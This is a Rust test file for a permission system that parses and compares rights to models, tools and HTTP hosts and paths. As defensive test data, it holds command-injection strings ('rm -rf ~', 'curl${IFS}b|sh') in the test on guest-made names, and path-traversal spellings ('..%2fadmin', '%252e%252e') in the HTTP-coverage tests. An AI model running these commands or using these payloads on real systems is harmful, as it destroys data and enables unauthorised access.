//! What texts are rights, and what covers what.

use std::sync::Arc;

use proptest::prelude::*;

use super::*;
use crate::{Grants, Manifest, Tenant};

fn right(text: &str) -> Right {
    Right::parse(text).unwrap_or_else(|error| panic!("{error}"))
}

fn fetch(method: &str, host: &str, port: Option<u16>, path: &str) -> Right {
    Right::Http(HttpRight::needed(method, host, port, path))
}

#[test]
fn rights_are_read_and_written() {
    for text in [
        "*",
        "llm:*",
        "llm:openai/*",
        "llm:openai/gpt-5*",
        "llm:openrouter/meta/llama-3",
        "tool:crm/lookup",
        "tool:crm/*",
        "interface:*",
        "interface:acme:*",
        "interface:acme:crm/api",
        "interface:acme:crm/api@1.2.0",
        "http:* *",
        "http:GET api.example.com",
        "http:GET,POST api.example.com:8443/v1/",
        "http:GET *.example.org/v1/users",
        "http:GET 127.0.0.1:9000/a*",
        "http:GET [::1]:9000",
        "child:invoice",
        "signal:in*",
        "cancel:*",
        "env:LANG",
        "llm:anbieter/modell-groß",
    ] {
        assert_eq!(right(text).to_string(), text);
        assert_eq!(right(text).to_grant().as_deref(), Some(text));
    }
    assert_eq!(right("http:POST,GET API.Example.com/").to_string(), "http:GET,POST api.example.com");
}

#[test]
fn what_is_no_right_is_refused() {
    let long = format!("llm:a/{}", "b".repeat(600));
    for text in [
        "",
        "gpt-5",
        "llm:",
        "llm:gpt*",
        "llm:/x",
        "llm:a/*b",
        "llm:a/b c",
        "model:a/b",
        "tool:crm",
        "tool:*/lookup",
        "interface:acme",
        "interface:acme:crm/api@1*",
        "http:api.example.com",
        "http:get api.example.com",
        "http:GET https://api.example.com",
        "http:GET api.example.com/v1/../admin",
        "http:GET api.example.com/v1/%2e%2e/",
        "http:GET api.example.com//x",
        "http:GET api.example.com/a%2fb",
        "http:GET api.example.com/a?b",
        "http:GET api.example.com:0",
        "http:GET a*.example.com",
        "http:GET 0x7f.1",
        "http:GET 127.1",
        "http:GET *.0.0.1",
        "http:GET münchen.de",
        "http:GET u@example.com",
        "child:a'b",
        "child:a\u{202e}b",
        "child:a\nb",
        &long,
    ] {
        let error = Right::parse(text).unwrap_err();
        assert!(error.message.contains("is no right"), "{text}: {error}");
    }
}

#[test]
fn what_covers_what() {
    for (grant, covered, refused) in [
        (
            "llm:openai/gpt-5*",
            vec![right("llm:openai/gpt-5"), right("llm:openai/gpt-5-mini"), right("llm:openai/gpt-5.1*")],
            vec![
                right("llm:openai/gpt-4"),
                right("llm:openai/*"),
                right("llm:openai2/gpt-5"),
                right("tool:openai/gpt-5"),
            ],
        ),
        (
            "llm:openai/gpt-5",
            vec![right("llm:openai/gpt-5")],
            vec![right("llm:openai/gpt-5*"), right("llm:openai/GPT-5")],
        ),
        (
            "tool:crm/*",
            vec![right("tool:crm/lookup"), Right::tools_of("crm")],
            vec![right("tool:crm2/lookup"), right("tool:*")],
        ),
        ("*", vec![right("env:A"), right("http:* *"), right("*")], vec![]),
        (
            "interface:acme:crm/api@1.2.0",
            vec![right("interface:acme:crm/api@1.3.0")],
            vec![
                right("interface:acme:crm/api@2.0.0"),
                right("interface:acme:crm/api"),
                right("interface:acme:crm/api2@1.2.0"),
            ],
        ),
        ("interface:acme:*", vec![right("interface:acme:crm/api@2.0.0")], vec![right("interface:acme2:crm/api")]),
        ("signal:invoice", vec![Right::signal("invoice")], vec![Right::cancel("invoice"), Right::signal("invoices")]),
        (
            "http:GET,POST api.example.com/v1/",
            vec![
                fetch("GET", "api.example.com", None, "/v1/"),
                fetch("POST", "api.example.com", None, "/v1/a%20b/c"),
                right("http:GET api.example.com/v1/x/"),
            ],
            vec![
                fetch("PUT", "api.example.com", None, "/v1/a"),
                fetch("GET", "api.example.com", None, "/v1"),
                fetch("GET", "api.example.com", None, "/v2/"),
                fetch("GET", "api.example.com", Some(8443), "/v1/"),
                fetch("GET", "api.example.com.evil.org", None, "/v1/"),
                fetch("GET", "api.example.com.", None, "/v1/"),
                fetch("GET", "api.example.com", None, "/v1/..%2fadmin"),
                fetch("GET", "api.example.com", None, "/v1/%2E%2E/admin"),
                fetch("GET", "api.example.com", None, "/v1/%252e%252e/admin"),
                fetch("GET", "api.example.com", None, "/v1//admin"),
                fetch("GET", "api.example.com", None, "/v1/..;/admin"),
                fetch("GET", "api.example.com", None, "/v1/..%5cadmin"),
                right("http:* api.example.com/v1/"),
                right("http:GET api.example.com"),
            ],
        ),
        (
            "http:* *.example.org",
            vec![fetch("GET", "a.example.org", None, "/x//y/..%2f")],
            vec![fetch("GET", "a.b.example.org", None, "/"), fetch("GET", "example.org", None, "/"), right("http:* *")],
        ),
        (
            "http:GET api.example.com/v1/x",
            vec![fetch("GET", "api.example.com", None, "/v1/x")],
            vec![fetch("GET", "api.example.com", None, "/v1/x/y")],
        ),
        ("http:* *", vec![fetch("GET", "a.example", Some(9), "/")], vec![right("env:A")]),
    ] {
        let grant = right(grant);
        for needed in covered {
            assert!(grant.covers(&needed), "{grant} covers {needed}");
        }
        for needed in refused {
            assert!(!grant.covers(&needed), "{grant} does not cover {needed}");
        }
    }
}

#[test]
fn a_refusal_names_the_grant_and_the_command() {
    let acme = Tenant::parse("acme").unwrap();
    let rights = Rights::of(&acme, None, None);
    let failure = rights.check(&[Right::model("openai", "gpt-5")]).unwrap_err();
    assert_eq!((failure.code.as_str(), failure.retryable), ("denied", false));
    assert!(failure.message.contains("`abide grants add --tenant acme 'llm:openai/gpt-5'`"), "{}", failure.message);
    // The root of a host has no narrower name than the host.
    let failure = rights.check(&[fetch("GET", "a.example", None, "/")]).unwrap_err();
    assert!(failure.message.contains("'http:GET a.example'"), "{}", failure.message);
}

#[test]
fn a_name_that_a_guest_made_up_cannot_widen_the_grant_that_is_proposed() {
    let rights = Rights::of(&Tenant::parse("acme").unwrap(), None, None);
    for name in ["*", "gpt'; rm -rf ~; '", "a\u{202e}b", "a\nb"] {
        let needed = Right::model("openai", name);
        assert_eq!(needed.to_grant(), None);
        let failure = rights.check(&[needed]).unwrap_err();
        assert!(!failure.message.contains("abide grants"), "{}", failure.message);
        assert!(!failure.message.contains(['\n', '\u{202e}']), "{}", failure.message);
    }
    let failure = rights.check(&[fetch("GET", "a.example", None, "/x';curl${IFS}b|sh;'")]).unwrap_err();
    assert!(failure.message.contains("--tenant acme 'http:GET a.example'`"), "{}", failure.message);
}

#[test]
fn a_run_has_what_is_granted_and_asked_for() {
    let grants = Arc::new(Grants { allow: vec![right("llm:openai/*"), right("tool:crm/*")], ..Grants::default() });
    let manifest = Arc::new(Manifest { asks: vec![right("llm:openai/gpt-5"), right("child:invoice")] });
    let acme = Tenant::parse("acme").unwrap();
    let rights = Rights::of(&acme, Some(grants.clone()), Some(manifest.clone()));
    assert_eq!(rights.check(&[right("llm:openai/gpt-5")]).unwrap(), Some(right("llm:openai/*")));
    let missing = |needed: &str| {
        let failure = rights.check(&[right(needed)]).unwrap_err();
        failure.details.unwrap().read::<serde_json::Value>().unwrap()["missing"].clone()
    };
    assert_eq!(missing("llm:openai/gpt-4"), "manifest");
    assert_eq!(missing("tool:crm/lookup"), "manifest");
    assert_eq!(missing("child:invoice"), "grant");
    assert_eq!(rights.of_tenant().check(&[right("tool:crm/lookup")]).unwrap(), Some(right("tool:crm/*")));
    // The default tenant has everything until somebody says what it has.
    let of_default = |grants, asked| Rights::of(&Tenant::default(), grants, asked);
    assert_eq!(of_default(None, None).check(&[right("env:A")]).unwrap(), None);
    assert!(of_default(None, Some(manifest)).check(&[right("env:A")]).is_err());
    assert!(of_default(Some(grants), None).check(&[right("env:A")]).is_err());
}

fn texts() -> impl Strategy<Value = String> {
    let name = "[a-c]{1,3}";
    prop_oneof![
        (name, "[a-c./]{0,4}", any::<bool>())
            .prop_map(|(a, b, open)| format!("llm:{a}/{b}{}", if open { "*" } else { "x" })),
        (name, any::<bool>()).prop_map(|(a, open)| format!("child:{a}{}", if open { "*" } else { "" })),
        (
            prop_oneof![Just("*"), Just("GET"), Just("GET,POST"), Just("POST")],
            prop_oneof![Just("*"), Just("a.b"), Just("*.b"), Just("b"), Just("c.a.b")],
            prop_oneof![Just(""), Just(":8080")],
            prop_oneof![Just(""), Just("/"), Just("/a"), Just("/a/"), Just("/a*"), Just("/a/b"), Just("/ab/")],
        )
            .prop_map(|(methods, host, port, path)| format!("http:{methods} {host}{port}{path}")),
        Just("*".to_owned()),
    ]
}

proptest! {
    #[test]
    fn reading_any_text_ends_well(text in "\\PC{0,40}") {
        if let Ok(right) = Right::parse(&text) {
            prop_assert_eq!(Right::parse(&right.to_string()).unwrap(), right);
        }
    }

    #[test]
    fn a_right_is_what_it_is_written_as(text in texts()) {
        let right = right(&text);
        prop_assert_eq!(Right::parse(&right.to_string()).unwrap(), right.clone());
        prop_assert!(right.covers(&right));
    }

    /// What is covered by what is covered is covered: an ask that passed at upload never allows more than the grants.
    #[test]
    fn covering_is_transitive(a in texts(), b in texts(), c in texts()) {
        let (a, b, c) = (right(&a), right(&b), right(&c));
        if a.covers(&b) && b.covers(&c) {
            prop_assert!(a.covers(&c), "{} {} {}", a, b, c);
        }
    }

    /// However a guest spells a path, a right to a part of a host leads to nothing whose parts, as a server may read them, lie elsewhere.
    #[test]
    fn no_spelling_leads_out_of_a_part(path in "(/|/v1/)(\\.|%2e|%2E|%252e|/|%2f|%5c|;|\\\\|a|v1){0,8}") {
        if right("http:GET a.b/v1/").covers(&fetch("GET", "a.b", None, &path)) {
            let mut read = path.to_ascii_lowercase();
            for _ in 0..3 {
                for (code, plain) in [("%25", "%"), ("%2e", "."), ("%2f", "/"), ("%5c", "/"), ("\\", "/")] {
                    read = read.replace(code, plain);
                }
            }
            let mut parts = Vec::new();
            for part in read.split('/').map(|part| part.split(';').next().unwrap_or_default()) {
                match part {
                    "" | "." => {}
                    ".." => drop(parts.pop()),
                    part => parts.push(part.to_owned()),
                }
            }
            prop_assert_eq!(parts.first().map(String::as_str), Some("v1"), "{}", path);
        }
    }
}
